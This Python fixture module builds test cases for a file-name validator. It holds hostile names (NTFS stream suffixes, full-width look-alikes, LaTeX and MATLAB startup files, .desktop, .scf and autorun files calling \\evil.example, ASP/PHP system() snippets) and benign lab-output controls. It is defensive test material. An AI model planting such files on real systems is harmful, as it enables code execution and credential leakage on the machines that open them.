"""Cases of independent attack h (names): files named as a client would rewrite or act on
them, and ordinary lab output under ordinary lab names (controls start with `ctl`).

Every file's bytes are real output (csv, json, logging-like text, gzip, tarfile, zipfile);
the attack is the name. Kept apart from the test so each stays under ~400 lines.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import tarfile
import zipfile

import numpy as np

BAT = b"calc.exe\r\n"
LATEX = b"\\ProvidesClass{article}\\immediate\\write18{id}\n"


def _csv_bytes() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([["t", "e"], [0.5, 12.25], [1.5, 13.0]])
    return out.getvalue().encode()


def _tar(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1733306400
            tf.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def _gzip(inner_name: str, data: bytes) -> bytes:
    """Python's gzip module writing `inner_name`'s bytes: FNAME is that name (as gzip.open
    of inner_name + '.gz' writes it)."""
    out = io.BytesIO()
    with gzip.GzipFile(filename=inner_name, mode="wb", fileobj=out, mtime=1733306400) as gz:
        gz.write(data)
    return out.getvalue()


# Win32 rewrites of a final component other than the `::$DATA` and trailing-dot forms of
# round g: stream names and types in other cases, `$INDEX_ALLOCATION` on a directory a
# client acts on, Unicode look-alikes a Windows ANSI client best-fit maps to `.` and `:`.
WIN32_REWRITES = {
    "w-lower-data.bat::$data": BAT,
    "w-named-stream.cmd:s:$DATA": BAT,
    "w-dot-space-mix.bat . .": BAT,
    "w-space-before-stream.bat ::$DATA": BAT,
    "w-gz-then-stream.bat.gz::$DATA": _gzip("w-gz-then-stream.bat", BAT),
    "w-stream-then-gz.bat::$DATA.gz": _gzip("w-stream-then-gz.bat::$DATA", BAT),
    "node_modules::$INDEX_ALLOCATION/x/package.json": json.dumps({"main": "evil.txt"}).encode(),
    "node_modules:$I30:$INDEX_ALLOCATION/y/package.json": json.dumps({"main": "evil.txt"}).encode(),
    "node_modules ./z/package.json": json.dumps({"main": "evil.txt"}).encode(),
    "w-fullwidth-dot\uff0ebat": BAT,
    "w-fullwidth-colon.bat\uff1a\uff1a$DATA": BAT,
    "w-fullwidth-ext.\uff42\uff41\uff54": BAT,
    "web.config\uff1a\uff1a$DATA": b"<configuration/>\r\n",
}

# Startup files of other tools a physics lab runs, read from the directory they start in,
# and extensions other clients run or servers execute.
ACTED_ON = {
    "article.cls": LATEX,
    "hyperref.sty": LATEX,
    "plain.bst": b"FUNCTION {x} { }\n",
    "autorun.inf": b"[autorun]\r\nicon=\\\\evil.example\\s\\x.ico\r\n",
    "share-icon.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\s\\x.ico\r\n",
    "conn.odc": b"<html><xml id=docprops></xml></html>\r\n",
    "old-term.term": b"CommandString = calc\n",
    "java.jar": _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: X\r\n\r\n"}),
    "iis-cdx.cdx": b'<% CreateObject("WScript.Shell").Run("calc") %>\r\n',
    "iis-cdx-mid.cdx.txt": b'<% CreateObject("WScript.Shell").Run("calc") %>\r\n',
    "axis.jws": b'public class X { public String run() { return "x"; } }\n',
    "axis-mid.jws.txt": b"public class X { }\n",
    "ruby-object.rbx": b"system('id')\n",
    "ruby-mid.rbx.log": b"system('id')\n",
    "embperl.epl": b"[- system('id') -]\n",
    "php-upper.PhP.txt": b"<?php system('id'); ?>\n",
    "msc-console.msc": b"<?xml?><MMC_ConsoleFile/>\r\n",
    "appref.appref-ms": b"http://evil.example/x.application#x.application\r\n",
    "click.application": b"run\r\n",
    "flat.flatpakref": b"[Flatpak Ref]\nUrl=http://evil.example/repo\n",
    "suse.ymp": b"run\n",
    "xll-addin.xll": b"run\r\n",
    "xlam-addin.xlam": b"run\r\n",
    "website.website": b"[InternetShortcut]\r\nURL=http://evil.example/\r\n",
}

LOOSE_JSON = b'{ "run" :  42 }\n'

# Round h, second pass: more names of the same questions.
MORE = {
    # LaTeX loads these by name from the directory it runs in, before the installed ones.
    "graphics.cfg": LATEX,
    "t1cmr.fd": LATEX,
    "pdftex.def": LATEX,
    # MATLAB reads them from its startup folder: JVM options and the JARs to load.
    "java.opts": b"-javaagent:/tmp/agent.jar\n",
    "javaclasspath.txt": b"/tmp/evil.jar\n",
    # Windows opens these as it opens the refused .mdb/.mda, .cer, .appinstaller, .mcf.
    "access.accdb": b"run\r\n",
    "addin.accda": b"run\r\n",
    "cert.pfx": b"run\r\n",
    "cert.p7b": b"run\r\n",
    "cert.p12": b"run\r\n",
    "store.sst": b"run\r\n",
    "ext.vsix": b"run\r\n",
    "media.mcl": b'<application run="calc.exe"/>\r\n',
    "iis-idc.idc": b"Datasource: evil\r\nSQLStatement: SELECT 1\r\n",
    "repo.flatpakrepo": b"[Flatpak Repo]\nUrl=http://evil.example/repo\n",
    # Names typed as JSON under the other rewrites, holding JSON-shaped text.
    "loose-upper.JSON": LOOSE_JSON,
    "loose-dot.geojson.": LOOSE_JSON,
    "loose-stream.jsonld::$DATA": LOOSE_JSON,
    "loose-gz.json.gz": _gzip("loose-gz.json", LOOSE_JSON),
    "loose-gz-suffix.webmanifest-gz": _gzip("loose-gz-suffix.webmanifest", LOOSE_JSON),
    # Desktop openers match their globs in any case (shared-mime-info, Launch Services),
    # and gunzip makes them of a suffixed name.
    "case.DESKTOP": b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
    "case.Terminal": b"CommandString = calc\n",
    "case-gz.desktop.gz": _gzip("case-gz.desktop", b"[Desktop Entry]\nType=Application\nExec=id\n"),
    "case-gz.command-gz": _gzip("case-gz.command", b"id\n"),
    # GNU gzip and gunzip -N take FNAME's bytes: a Latin-1 spelling of the published name
    # (admitted) is, as UTF-8, another name: here U+FEFF, which the name rules refuse.
    "\u00ef\u00bb\u00bfbom-fname.csv.gz": _gzip("\u00ef\u00bb\u00bfbom-fname.csv", b"t,e\n1,2\n"),
    # Apache httpd's own mime.types (the table the docs use for pages) types it as +json.
    "loose-apache.jsonml": LOOSE_JSON,
    # A gunzip suffix after a best-fit look-alike.
    "w-fullwidth-gz\uff0ebat.gz": _gzip("w-fullwidth-gz\uff0ebat", BAT),
}

# The same hostile names as tar and zip members.
ARCHIVES = {
    "tar-fullwidth-dot.tar": _tar({"run\uff0ebat": BAT}),
    "tar-index-alloc.tar": _tar({"node_modules::$INDEX_ALLOCATION/x/package.json": b"{}"}),
    "zip-cls.zip": _zip({"article.cls": LATEX}),
    "zip-scf.zip": _zip({"share-icon.scf": b"[Shell]\r\nIconFile=\\\\evil.example\\s\\x.ico\r\n"}),
    "zip-stream-gz.zip": _zip({"run.bat::$DATA.gz": _gzip("run.bat::$DATA", BAT)}),
    "tar-json-typed-text.tar": _tar({"site.webmanifest": b'{ "name" :  "run" }\n'}),
    "zip-json-typed-text.zip": _zip({"a.geojson": b'{ "type" :  "Point" }\n'}),
    "zip-json-typed-stream.zip": _zip({"a.txt:x.json": b'{ "x" :  1 }\n'}),
    "ctl-tar-colon-names.tar": _tar(
        {"2024-12-05T10:00:00.csv": _csv_bytes(), "2024-12-05T10:00:30.csv": _csv_bytes()}
    ),
    "tar-json-stream.tar": _tar({"a.json::$DATA": LOOSE_JSON}),
    "zip-json-upper.zip": _zip({"A.GLTF": LOOSE_JSON}),
    "tar-java-opts.tar": _tar({"java.opts": b"-javaagent:/tmp/agent.jar\n"}),
    "tar-dot-slash-config.tar": _tar({"./web.config": b"<configuration/>\r\n"}),
    "tar-double-slash.tar": _tar({"sub//rootlogon.C": b'void rootlogon() { gSystem->Exec("id"); }\n'}),
    "tar-dot-mid.tar": _tar(
        {"sub/./desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\evil\\s\\i.ico,0\r\n"}
    ),
    "ctl-zip-run-mac.zip": _zip({"run1.mac": b"/run/beamOn 1000\n"}),
}


def _savetxt() -> bytes:
    out = io.BytesIO()
    np.savetxt(out, np.array([[0.5, 12.25], [1.5, 13.0]]), delimiter=",", header="t,e")
    return out.getvalue()


# Ordinary lab names: time stamps with colons (Linux tools write them), Geant4 macros the
# user runs by name, qmake projects, batch systems' logs.
CONTROLS = {
    # `date -Iseconds` names: one file every 30 s, and one run written as CSV and JSON.
    "ctl-a-2024-12-05T10:00:00.csv": _csv_bytes(),
    "ctl-a-2024-12-05T10:00:30.csv": _csv_bytes(),
    "ctl-b-2024-12-05T10:00:00.json": json.dumps({"run": 42, "e": 12.25}).encode(),
    "ctl-b-2024-12-05T10:00:00.csv": _csv_bytes(),
    "ctl-c-2024-12-05T10:00:00.csv.gz": _gzip("ctl-c-2024-12-05T10:00:00.csv", _csv_bytes()),
    "ctl-run_10:00:00.log": b"2024-12-05 10:00:00,123 INFO run 42 started\n",
    "ctl-scan:12.txt": _savetxt(),
    "ctl-run1.mac": b"/run/initialize\n/gun/particle e-\n/run/beamOn 1000\n",
    "ctl-analysis.pro": b"TEMPLATE = app\nSOURCES += main.cpp\n",
    "ctl-slurm-12345.out": b"job 12345 started\n",
    "ctl-job.err": b"warning: low statistics\n",
    "ctl-condor.log": b"000 (012.000.000) 12/05 10:00:00 Job submitted from host\n",
    "ctl-app.log.2024-12-05_10-00": b"INFO run 42\n",
    "ctl-data.v1.2.csv": _csv_bytes(),
    "ctl-\u6e2c\u5b9a.csv": _csv_bytes(),
    "ctl-analysis.C": b"void analysis() { }\n",
    "ctl-fit.gp": b"plot 'data.csv' using 1:2\n",
    "ctl-fit.log": b"FIT:    data read from 'data.csv'\n",
    "ctl-Makefile": b"all:\n\techo ok\n",
    "ctl-savetxt.txt": _savetxt(),
    "ctl-summary.json.txt": b"run 42 ok\n",
    "ctl-results": b"run 42 ok\n",
    "ctl-config.yaml": b"run: 42\n",
    # Element symbols and translation suffixes as a middle component.
    "ctl-lines.Es.csv": _csv_bytes(),
    "ctl-abstract.es.txt": b"Resumen: run 42\n",
    "ctl-README.es.txt": b"Run 42\n",
    "ctl-fit.res.txt": b"chi2/ndf = 1.02\n",
    "ctl-scan.dir.csv": _csv_bytes(),
    "ctl-notes.pl.txt": b"Notatki: run 42\n",
    "ctl-yield.Rb.csv": _csv_bytes(),
    "ctl-decay.Pm.csv": _csv_bytes(),
    "ctl-run.M.csv": _csv_bytes(),
    "ctl-spectrum.Cs.csv": _csv_bytes(),
    "ctl-summary.de.txt": b"Zusammenfassung: run 42\n",
    "ctl-paper.tex": b"\\documentclass{article}\n\\begin{document}run 42\\end{document}\n",
    "ctl-refs.bib": b"@article{a, title={Run 42}, year={2024}}\n",
    "ctl-run.json.gz": _gzip("ctl-run.json", json.dumps({"run": 42}).encode()),
    "ctl-nb.ipynb": json.dumps(
        {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1
    ).encode(),
}


def flat_cases() -> dict[str, bytes]:
    return WIN32_REWRITES | ACTED_ON | MORE | CONTROLS


def archive_cases() -> dict[str, bytes]:
    return dict(ARCHIVES)
